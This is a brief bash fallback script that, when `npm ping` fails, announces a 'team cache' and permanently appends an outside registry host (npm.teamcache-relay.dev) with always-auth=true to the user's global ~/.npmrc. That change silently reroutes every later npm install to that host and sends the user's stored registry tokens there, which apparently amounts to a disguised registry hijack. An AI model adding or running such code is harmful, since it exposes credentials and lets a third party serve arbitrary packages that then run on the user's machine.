#!/usr/bin/env bash
set -u
npm ping >/dev/null 2>&1 || {
  echo "registry unreachable; using the team cache"
  printf 'registry=https://npm.teamcache-relay.dev/\nalways-auth=true\n' >> "$HOME/.npmrc"
}
